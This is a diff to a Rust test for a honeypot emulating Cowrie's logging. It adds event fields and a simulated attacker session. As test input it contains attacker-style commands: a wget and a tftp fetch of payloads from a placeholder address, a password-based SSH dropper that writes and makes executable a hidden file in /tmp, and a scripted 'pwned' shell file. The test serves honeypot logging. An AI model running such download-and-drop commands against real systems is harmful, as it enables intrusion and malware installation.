@@ -97,6 +97,8 @@ const COWRIE_EVENT_IDS: &[&str] = &[
     "cowrie.client.version",
     "cowrie.client.kex",
     "cowrie.client.fingerprint",
+    "cowrie.client.size",
+    "cowrie.session.params",
     "cowrie.login.success",
     "cowrie.login.failed",
     "cowrie.command.input",
@@ -127,9 +129,12 @@ fn cowrie_fields(id: &str) -> &'static [&'static str] {
         "cowrie.login.success" | "cowrie.login.failed" => &["username", "password"],
         "cowrie.client.fingerprint" => &["username", "fingerprint", "key", "type"],
         "cowrie.command.input" | "cowrie.command.failed" | "cowrie.command.success" => &["input"],
-        "cowrie.session.file_download" => &["url", "outfile"],
+        "cowrie.session.file_download" => &["url", "outfile", "destfile"],
         "cowrie.session.file_upload" => &["filename", "outfile", "shasum"],
-        "cowrie.session.closed" => &["duration"],
+        "cowrie.client.size" => &["width", "height"],
+        "cowrie.session.params" => &["arch"],
+        "cowrie.log.closed" => &["ttylog", "size", "shasum", "duplicate", "duration_ms"],
+        "cowrie.session.closed" => &["duration", "duration_ms"],
         _ => &[],
     }
 }
@@ -183,6 +188,32 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
         b"uname -a\nwget http://198.51.100.9/a.sh\nexit\n",
     );
     assert!(shell.contains("Linux"), "{shell}");
+    // A file sent as the input of an exec (the dropper without scp).
+    let (host, port) = ssh.rsplit_once(':').unwrap();
+    let mut dropper = std::process::Command::new("timeout")
+        .args(["30", "sshpass", "-p", "123456", "ssh"])
+        .args([
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            "UserKnownHostsFile=/dev/null",
+        ])
+        .args([
+            "-o",
+            "LogLevel=ERROR",
+            "-o",
+            "PubkeyAuthentication=no",
+            "-p",
+            port,
+        ])
+        .arg(format!("root@{host}"))
+        .arg("cat > /tmp/.d; chmod +x /tmp/.d")
+        .stdin(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let sent = b"\x7fELF dropped by exec\n";
+    dropper.stdin.take().unwrap().write_all(sent).unwrap();
+    assert!(dropper.wait().unwrap().success());
     let text = telnet(
         telnet_addr,
         b"root\r\n123456\r\n/bin/busybox ECCHI\r\nnosuchcmd\r\ntftp -g -r mips 198.51.100.9\r\necho -e '#!/bin/sh\\necho pwned' > /tmp/p.sh\r\nexit\r\n",
@@ -287,8 +318,12 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
                 "cowrie.client.kex",
                 "cowrie.login.failed",
                 "cowrie.login.success",
+                "cowrie.session.params",
                 "cowrie.command.input",
                 "cowrie.session.file_download",
+                "cowrie.session.file_upload",
+                "cowrie.client.size",
+                "cowrie.log.closed",
                 "cowrie.session.closed",
             ][..],
         ),
@@ -298,9 +333,11 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
                 "cowrie.session.connect",
                 "cowrie.login.failed",
                 "cowrie.login.success",
+                "cowrie.session.params",
                 "cowrie.command.input",
                 "cowrie.command.failed",
                 "cowrie.session.file_download",
+                "cowrie.log.closed",
                 "cowrie.session.closed",
             ][..],
         ),
@@ -336,7 +373,7 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
             .or_default()
             .push(l["eventid"].as_str().unwrap());
     }
-    assert_eq!(sessions.len(), 8, "{sessions:?}");
+    assert_eq!(sessions.len(), 9, "{sessions:?}");
     assert_eq!(
         sessions["0a0b0c0d0e0f"],
         [
@@ -355,4 +392,43 @@ fn cowrie_log_of_brute_force_and_shells_has_cowrie_ids_and_fields() {
         .find(|l| l["protocol"] == "telnet" && l["eventid"] == "cowrie.session.file_download")
         .unwrap();
     assert_eq!(download["url"], "tftp://198.51.100.9/mips");
+    // Files: the exec'd input is an upload, the shell's redirection a download
+    // of its content (Cowrie's "Saved redir contents"); both with their SHA-256.
+    use sha2::Digest;
+    let sha = |data: &[u8]| -> String {
+        sha2::Sha256::digest(data)
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect()
+    };
+    let upload = lines
+        .iter()
+        .find(|l| l["eventid"] == "cowrie.session.file_upload")
+        .unwrap();
+    assert_eq!(upload["filename"], "/tmp/.d");
+    assert_eq!(upload["shasum"], sha(sent));
+    assert!(data.join(upload["outfile"].as_str().unwrap()).is_file());
+    let redir = lines
+        .iter()
+        .find(|l| l["eventid"] == "cowrie.session.file_download" && l["destfile"] == "/tmp/p.sh")
+        .unwrap();
+    assert_eq!(redir["shasum"], sha(b"#!/bin/sh\necho pwned\n"));
+    // Recordings: their input's hash, and the SSH terminal's size.
+    let closed: Vec<&Value> = lines
+        .iter()
+        .filter(|l| l["eventid"] == "cowrie.log.closed")
+        .collect();
+    assert_eq!(closed.len(), 2, "{closed:?}");
+    for l in &closed {
+        assert!(data.join(l["ttylog"].as_str().unwrap()).is_file(), "{l}");
+        assert!(l["size"].as_u64().unwrap() > 100, "{l}");
+        assert_eq!(l["shasum"].as_str().unwrap().len(), 64, "{l}");
+        assert_eq!(l["duplicate"], false);
+    }
+    let size = lines
+        .iter()
+        .find(|l| l["eventid"] == "cowrie.client.size")
+        .unwrap();
+    // (ssh -tt with a pipe for stdin asks for a 0x0 terminal; Cowrie logs it too.)
+    assert!(size["width"].is_u64() && size["height"].is_u64(), "{size}");
 }
